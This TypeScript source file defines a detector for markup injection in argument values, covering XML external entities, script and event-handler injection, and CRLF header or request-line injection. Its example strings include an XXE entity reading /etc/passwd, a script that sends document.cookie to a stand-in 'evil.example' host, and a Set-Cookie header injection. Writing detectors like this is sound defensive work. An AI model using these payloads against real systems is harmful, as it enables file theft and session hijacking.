import { argumentDetector, isProse, wholeValue, type ArgumentRule } from './argument-detector.ts';

/** Entities that read files or addresses, or grow without end, and inclusions of the same. */
const ENTITY =
  /<!ENTITY\s{1,8}(?:%\s{1,8})?[\w.-]{1,40}\s{1,8}(?:SYSTEM|PUBLIC)\b|<!DOCTYPE\s[^>[]{1,120}\[[^]{0,400}?<!ENTITY|<!DOCTYPE\s[^>[]{1,80}\sSYSTEM\s{1,4}["'](?:https?:\/\/(?!www\.w3\.org|xml\.)|file:|ftp:)|<xi:include\s[^>]{0,200}href\s?=\s?["'](?:file:|https?:|\/)|xmlns:xi=[^>]{1,200}<xi:include|(?:&\w{1,12};\s{0,2}){8}|<xsl:(?:value-of|copy-of)[^>]{1,120}(?:document|system-property|unparsed-text)\(|<\?xml-stylesheet[^>]{1,200}href/i;
const HEADER =
  /(?:%0d%0a|%0a|%0d|\\r\\n|%E5%98%8A(?:%E5%98%8D)?|嘊嘍)(?:\s|%20|%09|%0[ad]){0,6}(?:set-cookie|location|content-(?:type|length|disposition)|x-[\w-]{2,30}|access-control-[\w-]{3,30}|host|transfer-encoding|bcc|cc|to|from|subject|referer|refresh|link)\s{0,2}(?::|%3a)\s?\S|\r?\n\s{0,2}(?:set-cookie|location|content-length|access-control-[\w-]{3,30}|transfer-encoding)\s?:\s?\S/i;
const MAIL_HEADER = /(?:%0d%0a|%0a|\r?\n|\\n)\s{0,4}(?:b?cc|to|from|subject|reply-to|content-type)\s{0,2}(?::|%3a)/i;
const REQUEST_LINE =
  /(?:%0d%0a|\r\n|%20)(?:HTTP\/[12](?:\.\d)?|(?:GET|POST|PUT|DELETE)(?:%20|\s)\/\S{0,80}(?:%20|\s)HTTP)/i;
const SCRIPT =
  /<\s{0,4}(?:script|img|svg|iframe|body|input|video|audio|details|object|embed|marquee|math|a|form|meta|link|style|base|isindex|select|textarea|button|x|div)\b[^>]{0,300}?(?:\bon[a-z]{3,24}\s{0,4}=|javascript\s{0,2}:|srcdoc\s?=|data:text\/html|http-equiv\s?=\s?["']?refresh)|<\s{0,4}script\b[^>]{0,200}>[^]{0,400}?(?:alert|prompt|confirm|document\.|fetch\(|eval\(|location|window\.|XMLHttp|import\()|<\s{0,4}script\b[^>]{0,80}\bsrc\s{0,2}=|["'>]\s{0,6}(?:on(?:error|load|mouse\w{2,8}|focus|click|toggle|begin)\s{0,2}=)|%3c(?:script|img|svg|iframe)\b[^]{0,200}(?:%3d|=|%3e)|-moz-binding|expression\s?\(\s?alert/i;
const QUICK = /[<&%\n\r]|["']\s{0,4}on\w{3,20}\s?=|\\[rn]|嘊/;

const rule: ArgumentRule = (text, role, name) => {
  if (role === 'command' || role === 'code' || role === 'sql' || !QUICK.test(text)) return undefined;
  if (role === 'text' || role === 'template')
    return ENTITY.test(text) && /^\s{0,20}(?:<|&)/.test(text) && !/^\s{0,20}<!DOCTYPE html/i.test(text)
      ? wholeValue(text)
      : undefined;
  if (isProse(text)) return undefined;
  if (ENTITY.test(text) || SCRIPT.test(text)) return wholeValue(text);
  if (role === 'open' && /\s/.test(text.trim())) return undefined;
  if (/^[\w-]{1,40}:\s/.test(text)) return undefined;
  if (HEADER.test(text) || REQUEST_LINE.test(text)) return wholeValue(text);
  return /mail|recipient|^to$|^from$/i.test(name ?? '') && MAIL_HEADER.test(text) ? wholeValue(text) : undefined;
};

export const MARKUP_INJECTION = argumentDetector(
  {
    id: 'exec.markup-injection',
    severity: 'high',
    title: 'Markup or header put into a plain value',
    explanation:
      'The value holds an XML entity that reads files, a script, or line ends that begin a header of their own.',
    examples: {
      name: 'name',
      match: [
        '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        '"><script>fetch("//evil.example/"+document.cookie)</script>',
        '<img src=x onerror=alert(1)>',
        'en%0d%0aSet-Cookie:%20admin=1',
      ],
      noMatch: [
        '<b>Sale</b>',
        'a < b && b > c',
        '50%0 off',
        'Q&A: fish &amp; chips',
        'JavaScript: The Good Parts',
        'line one\nline two',
      ],
    },
  },
  rule,
  { large: [ENTITY, SCRIPT, HEADER] },
);
